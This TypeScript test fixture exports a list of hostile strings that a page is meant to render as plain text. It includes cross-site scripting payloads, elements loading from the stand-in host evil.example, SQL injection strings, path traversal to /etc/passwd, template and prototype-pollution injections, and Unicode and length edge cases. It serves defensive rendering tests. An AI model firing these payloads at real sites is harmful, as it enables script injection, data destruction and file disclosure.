/** Texts that try to run scripts, load resources, navigate or break the layout. Pages must show them as text. */

const foreignSite = 'https://evil.example';

const scripts = [
  '<script>window.ran=1</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '</script><script>window.ran=1</script>',
  '<scr<script>ipt>window.ran=1</scr</script>ipt>',
  '<script\n>window.ran=1</script\n>',
  '<script type=module>import("//evil.example/x.js")</script>',
  '"><script>window.ran=1</script>',
  "'><script>window.ran=1</script>",
  '`><script>window.ran=1</script>',
  '<!--<script>--><script>window.ran=1</script>',
  '<![CDATA[<script>window.ran=1</script>]]>',
  '<svg><script>window.ran=1</script></svg>',
  '<math><mtext><script>window.ran=1</script></mtext></math>',
  '<template><script>window.ran=1</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=window.ran=1>">',
];

const handlers = [
  'onerror',
  'onload',
  'onfocus',
  'onclick',
  'onmouseover',
  'onanimationstart',
  'ontoggle',
  'onpointerenter',
];
const elements = ['img src=x', 'svg', 'input autofocus', 'body', 'details open', 'video src=x'];
const elementsWithHandlers = elements.flatMap((element) =>
  handlers.map((handler) => `<${element} ${handler}=window.ran=1>`),
);

const elementsThatLoad = [
  `<iframe src="${foreignSite}/frame"></iframe>`,
  '<iframe srcdoc="<script>parent.ran=1</script>"></iframe>',
  `<img src="${foreignSite}/i.png">`,
  `<link rel=stylesheet href="${foreignSite}/s.css">`,
  `<style>@import "${foreignSite}/s.css"; *{display:none}</style>`,
  `<meta http-equiv=refresh content="0;url=${foreignSite}">`,
  `<base href="${foreignSite}/">`,
  `<object data="${foreignSite}/o"></object>`,
  `<embed src="${foreignSite}/e">`,
  `<form action="${foreignSite}"><button>送信</button></form>`,
  `<a href="${foreignSite}" ping="${foreignSite}">x</a>`,
  `<video poster="${foreignSite}/p.png"></video>`,
  `<audio src="${foreignSite}/a.mp3" autoplay></audio>`,
  `<div style="background:url(${foreignSite}/b.png)">x</div>`,
  `<div style="position:fixed;inset:0;z-index:9999">x</div>`,
];

const addresses = [
  'javascript:window.ran=1',
  'JaVaScRiPt:window.ran=1',
  'java\tscript:window.ran=1',
  'javascript&colon;window.ran=1',
  '[x](javascript:window.ran=1)',
  'data:text/html,<script>window.ran=1</script>',
  'data:text/html;base64,PHNjcmlwdD53aW5kb3cucmFuPTE8L3NjcmlwdD4=',
  'vbscript:msgbox(1)',
  'file:///etc/passwd',
  'blob:https://evil.example/1',
  'about:blank',
  'ftp://evil.example/',
  '//evil.example/',
  'https://user:pass@evil.example/',
  'https://evil.example/"onmouseover="window.ran=1',
  "https://evil.example/'onmouseover='window.ran=1",
  'https://evil.example/<script>window.ran=1</script>',
  'https://evil.example\\@good.example/',
  'https://\u202Emoc.elgoog',
  'https://xn--80ak6aa92e.com/',
  'http://[::1]:8080/',
  'http://0x7f000001/',
  'https://',
  'http://a',
  `https://evil.example/${'a'.repeat(600)}`,
];

const directions = [
  'a\u202Eb\u202Ec\u202Ed',
  `${'\u202E'.repeat(30)}abc`,
  '\u202Dabc\u202C\u202C\u202C',
  '\u2066\u2067\u2068abc',
  '\u2069\u2069\u2069abc',
  '\u200F\u200Fabc\u200E',
  'שלום עולם, זה מבחן.',
  'مرحبا بالعالم (اختبار) 123',
  'abc שלום 123 مرحبا def',
  '\u061Cabc',
];

const invisible = [
  '\u200B\u200C\u200D\u2060\uFEFFa',
  'a\u00ADb\u00ADc',
  `a${'\u200B'.repeat(300)}b`,
  '\u3164\u115F\u1160a',
  '\u2800\u2800a',
  'a\u180Eb',
  'a\u{E0061}\u{E0062}\u{E007F}b',
  'a\u0001\u0002\u0003\u0007\u0008\u001B[31mb',
  'a\u0000b',
  'a\u007F\u0085\u009Fb',
  'a\r\nb\rc\nd',
  'a\u2028b\u2029c',
  'a\v\fb',
  `a${'\n'.repeat(40)}b`,
  `a${'\t'.repeat(60)}b`,
  `a${'\u00A0'.repeat(400)}b`,
  `a${'\u3000'.repeat(400)}b`,
  '\uD800a',
  'a\uDFFFb',
  '\uFFFD\uFFFE\uFFFF',
];

const combiningMarks = [
  `Z${'\u0300'.repeat(100)}a${'\u0323'.repeat(100)}lgo`,
  [...'ZALGO'].map((letter) => letter + '\u0336\u034F\u0489\u0315'.repeat(20)).join(''),
  `か${'\u3099'.repeat(80)}`,
  `ก${'\u0E49'.repeat(80)}`,
  '\u0301\u0301\u0301',
  '﷽'.repeat(40),
  '𒐫'.repeat(40),
  '⸻'.repeat(40),
  '꧅'.repeat(40),
  '𝕬'.repeat(120),
];

const lengths = [
  'w'.repeat(1_200),
  'あ'.repeat(1_200),
  '!'.repeat(800),
  '-'.repeat(800),
  '_'.repeat(800),
  '.'.repeat(800),
  '（'.repeat(400),
  '）'.repeat(400),
  'ー'.repeat(400),
  `${'M'.repeat(30)}\u00A0${'M'.repeat(300)}`,
  `${'a/'.repeat(300)}`,
  'Donaudampfschifffahrtselektrizitätenhauptbetriebswerkbauunterbeamtengesellschaft'.repeat(6),
  `\`\`\`\n${'x'.repeat(900)}\n\`\`\``,
  `\`\`\`js\nconst a = "${'<b>'.repeat(60)}";\n\`\`\``,
];

const emoji = [
  '👨‍👩‍👧‍👦'.repeat(60),
  '🏴󠁧󠁢󠁥󠁮󠁧󠁿'.repeat(40),
  '🇯🇵'.repeat(80),
  '👍🏽'.repeat(80),
  '❤️‍🔥'.repeat(60),
  '1️⃣'.repeat(60),
  `😀${'\u200D😀'.repeat(60)}`,
  '\uFE0F\uFE0E',
];

const entities = [
  '&lt;b&gt;',
  '&#60;script&#62;window.ran=1&#60;/script&#62;',
  '&#x3C;img src=x onerror=window.ran=1&#x3E;',
  '&NewLine;&Tab;&nbsp;&zwj;',
  '&amp;amp;',
  '\\u003cscript\\u003ewindow.ran=1\\u003c/script\\u003e',
  '\\x3cscript\\x3e',
  '%3Cscript%3Ewindow.ran=1%3C/script%3E',
  '\\3c script',
  '*{display:none}',
  '}</style><img src=x onerror=window.ran=1>',
  'expression(window.ran=1)',
  'url(javascript:window.ran=1)',
  '--accent: red; --surface: red',
];

const templates = [
  '{{constructor.constructor("window.ran=1")()}}',
  '$' + '{window.ran=1}',
  '<%= window.ran=1 %>',
  '#{window.ran=1}',
  '{% raw %}',
  '@{window.ran=1}',
  '[[$' + '{window.ran=1}]]',
  '{"__proto__":{"ran":1}}',
  '__proto__',
  'constructor',
  'toString',
  'undefined',
  'null',
  'NaN',
  '[object Object]',
  "'; DROP TABLE messages; --",
  '" OR 1=1 --',
  '../../../../etc/passwd',
  '<bdo dir="rtl"><script>window.ran=1</script></bdo>',
  '\u0000<script>window.ran=1</script>',
  '$(window.ran=1)`window.ran=1`',
];

export const hostileTexts: readonly string[] = [
  ...scripts,
  ...elementsWithHandlers,
  ...elementsThatLoad,
  ...addresses,
  ...directions,
  ...invisible,
  ...combiningMarks,
  ...lengths,
  ...emoji,
  ...entities,
  ...templates,
];
